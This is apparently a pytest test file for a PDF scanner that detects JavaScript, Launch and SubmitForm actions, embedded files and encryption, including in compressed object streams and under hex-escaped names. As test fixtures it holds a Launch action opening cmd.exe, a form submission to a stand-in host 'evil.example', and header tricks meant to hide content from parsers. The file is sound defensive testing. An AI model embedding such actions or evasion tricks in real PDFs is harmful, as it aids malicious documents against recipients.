"""What is found in a PDF besides its pages, in clear, in packed objects and under escaped names."""

import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qingqiao.problems import DocumentAtFault
from qingqiao.records import pdf_files
from qingqiao.records.documents import refuse_others
from qingqiao.records.office_files import FINDINGS, found_in
from qingqiao.records.pdf_files import found_in_pdf

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
OPENS_A_PROGRAM = b"<< /S /Launch /F (cmd.exe) >>"
ATTACHMENT = b"<</Type/Filespec/EF<</F 9 0 R>>>> <</Type/EmbeddedFile/Length 3>>"
HARMLESS = b"<</Type/Catalog/OpenAction[3 0 R/Fit]/A<</S/URI/URI (https://www.yl.gov.cn/JavaScript)>>>>"


def pdf(said: bytes, trailer: bytes = b"") -> bytes:
    """A file with one object that says this."""
    return b"%PDF-1.7\n1 0 obj\n" + said + b"\nendobj\ntrailer <</Root 1 0 R" + trailer + b">>\n%%EOF\n"


def packed(said: bytes, head: bytes = b"/Filter/FlateDecode", body: bytes | None = None) -> bytes:
    """A file whose object lies in an object stream."""
    inside = zlib.compress(said) if body is None else body
    stream = b"<</Type/ObjStm/N 1/First 4" + head + b">>\nstream\n" + inside + b"\nendstream"
    return pdf(stream)


@pytest.mark.parametrize(
    ("said", "found"),
    [
        (SCRIPT, "script"),
        (b"<</S/J#61va#53cript/JS(x)>>", "script"),
        (OPENS_A_PROGRAM, "script"),
        (b"<</XFA[(template) 5 0 R]>>", "script"),
        (b"<</S/SubmitForm/F(http://evil.example)>>", "script"),
        (ATTACHMENT, "attached"),
        (b"<</Names<</EmbeddedFiles 4 0 R>>>>", "attached"),
        (HARMLESS, ""),
        (b"(JavaScript, Launch and EmbeddedFile in words)", ""),
    ],
)
def test_what_acts_by_itself_is_found_in_clear_and_packed(said: bytes, found: str) -> None:
    assert found_in(".pdf", pdf(said)) == found
    assert found_in(".pdf", packed(said)) == found


def test_a_password_is_found_under_an_escaped_name_too() -> None:
    assert found_in(".pdf", pdf(b"<<>>", b"/Encrypt 5 0 R")) == "password"
    assert found_in(".pdf", pdf(b"<<>>", b"/Encr#79pt 5 0 R")) == "password"


@pytest.mark.parametrize(
    "head",
    [
        b"/Filter/LZWDecode",
        b"/Filter[/ASCII85Decode/FlateDecode]",
        b"/Filter/Fl/DecodeParms<</Predictor 12>>",
    ],
)
def test_objects_packed_in_a_way_that_no_office_uses_are_refused(head: bytes) -> None:
    assert found_in(".pdf", packed(b"<<>>", head)) == "broken"


@pytest.mark.parametrize(
    "head",
    [
        b"/X(obj >> stream\n)/Filter/FlateDecode",
        b"/X(\\)>>stream\n()(endobj))/Filter/FlateDecode",
        b"/Filt#65r/Fl",
        b"% >> stream\n/Filter/Fl",
    ],
)
def test_a_head_that_is_made_to_mislead_hides_nothing(head: bytes) -> None:
    assert found_in(".pdf", packed(SCRIPT, head)) == "script"
    assert found_in(".pdf", packed(SCRIPT, head).replace(b"/Type/ObjStm", b"/Type 8 0 R")) == "script"


def test_objects_that_unpack_beyond_the_limit_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_files, "MOST_BYTES", 2**20)
    assert found_in(".pdf", packed(b" " * (2**20 + 1))) == "broken"
    assert found_in(".pdf", packed(b"", body=b"not packed at all")) == "broken"


def test_she_is_told_what_to_do() -> None:
    with pytest.raises(DocumentAtFault) as refused:
        refuse_others("报告.pdf", packed(SCRIPT))
    assert str(refused.value.detail) == FINDINGS["script"]


@given(st.binary(max_size=400), st.sampled_from([SCRIPT, OPENS_A_PROGRAM]), st.binary(max_size=400))
@settings(max_examples=60, deadline=None)
def test_whatever_stands_around_it_is_found(before: bytes, said: bytes, after: bytes) -> None:
    assert found_in_pdf(pdf(before + b"\n" + said + b"\n" + after)) in ("script", "password", "attached")
